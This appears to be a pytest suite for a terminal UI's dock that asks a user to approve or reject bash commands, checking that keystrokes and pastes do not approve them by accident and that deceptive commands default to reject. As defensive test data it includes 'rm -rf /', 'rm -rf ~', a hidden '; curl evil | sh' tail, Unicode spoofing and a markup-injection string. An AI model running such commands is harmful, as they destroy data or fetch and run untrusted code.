import pytest
from textual import events

from octui.ui.approvals.free_text_input import FreeTextInput
from octui.ui.approvals.permission_view import PermissionStep
from octui.ui.approvals.request_card import ReplyState
from octui.ui.messages import ReplyPermission
from octui.wire.requests import Permission
from tests.support.request_dock import DockPilot, make_bash_permission, open_dock


def sent_replies(asked: DockPilot) -> list[tuple[str, str, str | None]]:
    return [
        (said.request.id, said.reply, said.message) for said in asked.app.decided if isinstance(said, ReplyPermission)
    ]


BURST = [
    *"yes please run it 1 2 3 a",
    "enter",
    "space",
    "y",
    "a",
    "1",
    "enter",
    "left",
    "right",
    "tab",
    *"and more",
    "enter",
]
TYPED = "yes please run it 1 2 3 a\n ya1\n"


async def test_a_card_that_arrives_while_somebody_types_takes_nothing() -> None:
    async with open_dock() as asked:
        await asked.type_keys(*"half a sen")
        await asked.add_requests(make_bash_permission("rm -rf /", "rm *"))
        await asked.type_keys(*"tence", "enter", "space", "y", "a", "1", "enter")
        assert asked.app.composer.text == "half a sentence\n ya1\n"
        assert sent_replies(asked) == []
        assert asked.app.composer.has_focus
        assert asked.app.card.reply_state is ReplyState.OPEN


async def test_a_burst_of_keys_into_a_card_that_took_the_focus_is_typed_and_decides_nothing() -> None:
    async with open_dock() as asked:
        asked.app.at_rest = lambda: not asked.app.composer.text
        await asked.add_requests(make_bash_permission("rm -rf /", "rm *"))
        assert asked.app.card.is_focused
        await asked.type_keys(*BURST)
        assert sent_replies(asked) == []
        assert asked.app.composer.text.startswith(TYPED)
        assert "and more" in asked.app.composer.text
        assert asked.app.composer.has_focus


async def test_a_burst_that_comes_all_at_once_keeps_its_order() -> None:
    async with open_dock() as asked:
        asked.app.at_rest = lambda: not asked.app.composer.text
        await asked.add_requests(make_bash_permission("rm -rf /", "rm *"))
        for character in "the quick brown fox jumps over the lazy dog, 60 keys in one go!":
            asked.app.post_message(events.Key(character, character))
        asked.app.post_message(events.Key("enter", "\r"))
        await asked.pilot.pause()
        await asked.pilot.pause()
        assert asked.app.composer.text == "the quick brown fox jumps over the lazy dog, 60 keys in one go!\n"
        assert sent_replies(asked) == []


async def test_typing_into_a_card_that_took_the_focus_long_ago_is_still_typing() -> None:
    async with open_dock() as asked:
        asked.app.at_rest = lambda: not asked.app.composer.text
        await asked.add_requests(make_bash_permission("make", "make *"))
        asked.app.clock.advance(60)
        await asked.type_keys(*"hello", "enter")
        assert asked.app.composer.text == "hello\n"
        assert sent_replies(asked) == []


async def test_a_paste_answers_nothing_and_is_not_lost() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        asked.app.clock.advance(5)
        asked.app.post_message(events.Paste("y\n\n1\nallow\n"))
        await asked.pilot.pause()
        await asked.pilot.pause()
        assert asked.app.composer.text == "y\n\n1\nallow\n"
        assert sent_replies(asked) == []


async def test_enter_counts_half_a_second_after_a_deliberate_move_and_not_before() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        asked.app.clock.advance(10)
        await asked.focus_card()
        await asked.type_keys("enter", every=0.4)
        assert sent_replies(asked) == []
        await asked.type_keys("enter", every=0.34)
        assert sent_replies(asked) == []
        await asked.type_keys("enter", every=0.36)
        assert sent_replies(asked) == [("per_1", "once", None)]


async def test_enter_counts_as_terminals_send_it() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        asked.app.clock.advance(1)
        asked.app.post_message(events.Key("enter", "\r"))
        await asked.wait_until(lambda: bool(asked.app.decided))
        assert sent_replies(asked) == [("per_1", "once", None)]


async def test_a_key_that_means_nothing_makes_the_card_wait_for_silence_again() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("delete")
        await asked.type_keys("enter", every=0.3)
        assert sent_replies(asked) == []


async def test_whoever_writes_a_word_into_a_card_writes_it_into_the_prompt() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys(*"hello", "enter")
        assert asked.app.composer.text == "hello\n"
        assert sent_replies(asked) == []


async def test_no_key_but_enter_decides() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        for key in (*"yanoYAr1hjkl", "space", "ctrl+j", "alt+enter", "backspace"):
            await asked.focus_card()
            await asked.press_keys(key)
        assert sent_replies(asked) == []


async def test_left_and_right_choose_and_enter_takes() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("right", "right", "enter")
        assert sent_replies(asked) == [("per_1", "reject", None)]


async def test_other_keys_that_move_along_the_buttons() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        places = []
        for key in ("l", "tab", "h", "shift+tab", "shift+tab"):
            await asked.press_keys(key)
            places.append(asked.app.permission_view.button_row.selected)
        assert places == [1, 2, 1, 0, 3]


async def test_esc_leaves_without_deciding_and_the_card_stays() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("escape")
        assert asked.app.composer.has_focus
        assert asked.app.dock.display
        await asked.type_keys(*"go on")
        assert asked.app.composer.text == "go on"
        assert sent_replies(asked) == []


async def test_always_shows_what_is_remembered_before_it_is_confirmed() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("rm -rf build && make", "rm *", "make *"))
        await asked.focus_card()
        await asked.press_keys("right", "enter")
        assert sent_replies(asked) == []
        shown = asked.app.screen_text
        assert "• rm *" in shown
        assert "• make *" in shown
        assert "Until the server restarts" in shown
        assert "/srv/shop" in shown
        await asked.press_keys("enter")
        assert sent_replies(asked) == [("per_1", "always", None)]


async def test_the_key_that_opened_the_second_step_cannot_confirm_it() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("right")
        await asked.type_keys("enter", "enter", "enter", every=0.1)
        assert sent_replies(asked) == []


async def test_back_from_always_remembers_nothing() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("right", "enter", "right", "enter")
        assert asked.app.permission_view.step is PermissionStep.CHOOSE
        await asked.press_keys("enter", "escape")
        assert asked.app.permission_view.step is PermissionStep.CHOOSE
        assert sent_replies(asked) == []
        assert asked.app.card.is_focused


async def test_what_always_cannot_remember_it_does_not_offer() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make"))
        assert "Allow once" in asked.app.screen_text
        assert "Always allow" not in asked.app.screen_text


async def test_reject_with_a_reason_sends_the_words() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("rm -rf build", "rm *"))
        await asked.focus_card()
        await asked.press_keys("left", "enter")
        await asked.type_keys(*"use make clean", "shift+enter", *"please")
        await asked.press_keys("enter")
        assert sent_replies(asked) == [("per_1", "reject", "use make clean\nplease")]


async def test_a_reason_that_was_left_is_still_there_and_an_empty_one_is_not_sent() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("rm -rf build", "rm *"))
        await asked.focus_card()
        await asked.press_keys("left", "enter", "enter")
        assert sent_replies(asked) == []
        await asked.type_keys(*"because", "escape")
        assert asked.app.card.is_focused
        await asked.show_dock()
        await asked.press_keys("enter")
        assert asked.app.card.query_exactly_one(FreeTextInput).text == "because"
        await asked.press_keys("enter")
        assert sent_replies(asked) == [("per_1", "reject", "because")]


async def test_a_paste_into_the_reason_does_not_send_it() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("rm -rf build", "rm *"))
        await asked.focus_card()
        await asked.press_keys("left", "enter")
        asked.app.post_message(events.Paste("first\nsecond\n"))
        await asked.pilot.pause()
        await asked.pilot.pause()
        assert sent_replies(asked) == []
        assert asked.app.card.query_exactly_one(FreeTextInput).text == "first\nsecond\n"


HEREDOC = "cat <<'EOF' > notes\n" + "\n".join(f"line {number}" for number in range(400)) + "\nEOF\nrm -rf ~"


@pytest.mark.parametrize("size", [(140, 42), (80, 24), (60, 20), (40, 10)])
async def test_a_hidden_tail_keeps_allow_closed_until_it_was_shown(size: tuple[int, int]) -> None:
    async with open_dock(size) as asked:
        await asked.add_requests(make_bash_permission(HEREDOC, "cat *"))
        assert "more lines · pgdn" in asked.app.screen_text
        await asked.focus_card()
        await asked.press_keys("enter", "right", "enter")
        assert sent_replies(asked) == []
        assert asked.app.permission_view.step is PermissionStep.CHOOSE
        await asked.press_keys("left")
        await asked.read_to_end()
        assert "rm -rf ~" in asked.app.screen_text or "in ~/shop" in asked.app.screen_text
        await asked.press_keys("enter")
        assert sent_replies(asked) == [("per_1", "once", None)]


async def test_how_much_is_hidden_is_told_and_shrinks_while_reading() -> None:
    async with open_dock((80, 24)) as asked:
        await asked.add_requests(make_bash_permission("\n".join(f"echo {number}" for number in range(50)), "echo *"))
        card = asked.app.card
        await asked.focus_card()
        hidden = 50 - card.view.body.size.height
        assert f"▼ {hidden} more lines · pgdn" in asked.app.screen_text
        await asked.press_keys("down", "down")
        assert f"▲ 2 more lines · ▼ {hidden - 2} more lines · pgdn" in asked.app.screen_text
        await asked.press_keys("pagedown", "pageup", "pageup")
        assert "▲" not in asked.app.screen_text


async def test_paging_through_a_long_text_shows_every_line() -> None:
    async with open_dock((80, 24)) as asked:
        await asked.add_requests(make_bash_permission("\n".join(f"echo <{number}>" for number in range(60)), "echo *"))
        await asked.focus_card()
        seen = asked.app.screen_text
        while asked.app.permission_view.body.hidden_below:
            await asked.press_keys("pagedown")
            seen += asked.app.screen_text
        assert all(f"echo <{number}>" in seen for number in range(60))
        assert "[ Allow once ]" in asked.app.screen_text


async def test_the_wheel_scrolls_what_will_run() -> None:
    async with open_dock((80, 24)) as asked:
        await asked.add_requests(make_bash_permission("\n".join(f"echo {number}" for number in range(50)), "echo *"))
        body = asked.app.permission_view.body
        asked.app.screen._forward_event(
            events.MouseScrollDown(None, body.region.x + 2, body.region.y, 0, 0, 0, False, False, False)
        )
        await asked.pilot.pause()
        assert body.hidden_above > 0


async def test_full_height_shows_more_of_it() -> None:
    async with open_dock((80, 30)) as asked:
        await asked.add_requests(make_bash_permission("\n".join(f"echo {number}" for number in range(50)), "echo *"))
        await asked.focus_card()
        card = asked.app.card
        before = card.view.body.size.height
        await asked.press_keys("ctrl+f")
        assert card.view.body.size.height > before
        assert asked.app.composer.region.bottom <= 30
        await asked.press_keys("ctrl+f")
        assert card.view.body.size.height == before


async def test_a_long_text_read_in_a_thread_is_closed_until_it_is_there_and_read() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("echo " + "x" * 200_000, "echo *"))
        await asked.focus_card()
        await asked.wait_until(lambda: bool(asked.app.permission_view.body.hidden_below))
        await asked.press_keys("enter")
        assert sent_replies(asked) == []
        await asked.read_to_end()
        await asked.press_keys("enter")
        assert sent_replies(asked) == [("per_1", "once", None)]


@pytest.mark.parametrize(
    "command",
    [
        "echo \u202egpj.exe\u202c",
        "rm\u200b -rf x",
        "\u0441url http://x.y",
        "ls" + " " * 5000 + "; curl evil | sh",
        "ls" + "\n" * 31 + "rm -rf ~",
        "echo \u3164",
        "echo \x9b2J",
    ],
)
async def test_what_deceives_makes_reject_the_default(command: str) -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission(command, "echo *"))
        await asked.focus_card()
        assert asked.app.card.has_class("-doubtful")
        assert "⚠" in asked.app.screen_text
        assert all(character in "\n" or character.isprintable() for character in asked.app.screen_text)
        await asked.press_keys("enter")
        assert sent_replies(asked) == [("per_1", "reject", None)]


@pytest.mark.parametrize("name", ["bu\u202eild", "look\u200b at CI"])
async def test_a_deceptive_name_of_who_asks_makes_reject_the_default(name: str) -> None:
    async with open_dock() as asked:
        sessions = asked.app.store.state.sessions
        sessions["ses_child"] = type(sessions["ses_child"])(id="ses_child", title=name, parent_id="ses_here")
        await asked.add_requests(make_bash_permission("make", "make *", session_id="ses_child"))
        await asked.focus_card()
        assert "\\u{" in asked.app.screen_text
        await asked.press_keys("enter")
        assert sent_replies(asked) == [("per_1", "reject", None)]


async def test_text_from_elsewhere_is_never_markup() -> None:
    hostile = "[/] [b [@click=app.quit]x[/] [link=file:///etc/passwd]y[/] [type=x, v={'a[0]'}]"
    async with open_dock((160, 40)) as asked:
        await asked.add_requests(
            make_bash_permission(hostile, hostile), Permission(id="per_2", session_id="ses_other", permission=hostile)
        )
        assert hostile in asked.app.screen_text
        await asked.focus_card()
        await asked.press_keys("shift+right")
        assert hostile in asked.app.screen_text
        await asked.press_keys("shift+left", "right", "enter")
        assert f"• {hostile}" in asked.app.screen_text


async def test_while_an_answer_is_on_its_way_nothing_more_can_be_decided() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("enter", "enter", "right", "enter")
        assert sent_replies(asked) == [("per_1", "once", None)]
        assert "Sending" in asked.app.screen_text
        asked.app.dock.confirm_delivery("per_1")
        await asked.press_keys("enter")
        assert len(sent_replies(asked)) == 1
        await asked.settle_request("per_1")
        assert asked.app.dock.request_count == 0
        assert not asked.app.dock.display
        assert asked.app.composer.has_focus


async def test_an_answer_that_was_not_delivered_says_so_and_is_not_sent_again() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("enter")
        asked.app.dock.report_failure("per_1", "The server did not answer.")
        await asked.pilot.pause()
        shown = asked.app.screen_text
        assert "Could not send your answer: The server did not answer" in shown
        assert "Nothing was allowed" in shown
        await asked.show_dock()
        asked.app.clock.advance(60)
        assert len(sent_replies(asked)) == 1
        await asked.press_keys("enter")
        assert sent_replies(asked) == [("per_1", "once", None)] * 2


async def test_a_reason_survives_a_failed_delivery() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("left", "enter")
        await asked.type_keys(*"no")
        await asked.press_keys("enter")
        asked.app.dock.report_failure("per_1", "The server did not answer.")
        await asked.pilot.pause()
        assert "Could not send your answer" in asked.app.screen_text
        await asked.focus_card()
        await asked.press_keys("enter")
        assert sent_replies(asked) == [("per_1", "reject", "no")] * 2


async def test_letters_typed_after_the_answer_go_to_the_prompt() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("enter")
        await asked.type_keys(*"next thing")
        assert asked.app.composer.text == "next thing"


async def test_an_answer_the_server_took_and_forgot_can_be_given_again() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("enter")
        asked.app.dock.confirm_delivery("per_1")
        asked.app.clock.advance(6)
        await asked.press_keys("enter")
        assert len(sent_replies(asked)) == 1
        assert "is still asking" in asked.app.screen_text
        await asked.press_keys("enter")
        assert len(sent_replies(asked)) == 2


async def test_an_ask_answered_elsewhere_says_so_and_a_late_key_does_nothing() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.settle_request("per_1")
        assert "Answered elsewhere" in asked.app.screen_text
        await asked.press_keys("enter", "right", "enter")
        assert sent_replies(asked) == []
        await asked.wait_until(lambda: not asked.app.dock.display)
        assert asked.app.composer.has_focus


async def test_a_reason_half_written_outlives_its_ask() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("left", "enter")
        await asked.type_keys(*"my reason")
        await asked.settle_request("per_1")
        await asked.press_keys("enter")
        assert sent_replies(asked) == []
        assert "my reason" in asked.app.screen_text
        await asked.press_keys("escape")
        await asked.wait_until(lambda: not asked.app.dock.display)
        assert asked.app.composer.has_focus


async def test_what_would_run_changing_under_the_finger_begins_the_choice_again() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        await asked.press_keys("down")
        await asked.add_requests(make_bash_permission("rm -rf /", "rm *"))
        await asked.type_keys("enter", every=0.1)
        assert sent_replies(asked) == []
        assert "rm -rf /" in asked.app.screen_text


async def test_a_click_on_a_button_counts_once_it_stood_still() -> None:
    async with open_dock() as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        row = asked.app.permission_view.button_row
        reject = asked.app.screen_text.splitlines()[row.region.y].index("Reject")
        at = (reject - row.region.x + 1, 0)
        await asked.pilot.click(row, offset=at)
        assert sent_replies(asked) == []
        asked.app.clock.advance(1)
        await asked.pilot.click(row, offset=at)
        await asked.pilot.pause()
        assert sent_replies(asked) == [("per_1", "reject", None)]


async def test_buttons_wrap_on_a_narrow_screen() -> None:
    async with open_dock((60, 20)) as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        assert asked.app.permission_view.button_row.size.height == 2
        for label in ("Allow once", "Always allow: make *", "Reject", "Reject with a note…"):
            assert label in asked.app.screen_text


async def test_the_smallest_screen_still_shows_what_who_and_every_answer() -> None:
    async with open_dock((40, 10)) as asked:
        await asked.add_requests(make_bash_permission("make", "make *"))
        await asked.focus_card()
        shown = asked.app.screen_text
        assert "$ make" in shown
        assert "Allow once" in shown
        assert shown.count("Reject") == 2
        await asked.read_to_end()
        assert "in ~/shop" in asked.app.screen_text
        assert asked.app.composer.region.bottom <= 10


async def test_the_same_ask_shown_again_keeps_choice_and_place() -> None:
    async with open_dock((80, 24)) as asked:
        await asked.add_requests(make_bash_permission("\n".join(f"echo {number}" for number in range(50)), "echo *"))
        await asked.focus_card()
        await asked.press_keys("right", "right", "down", "down", "down")
        await asked.show_dock()
        await asked.add_requests(make_bash_permission("make", "make *", id="per_2"))
        card = asked.app.card
        assert card.request_id == "per_1"
        assert card.view.body.hidden_above == 3
        assert asked.app.permission_view.button_row.selected == 2
        assert card.is_focused
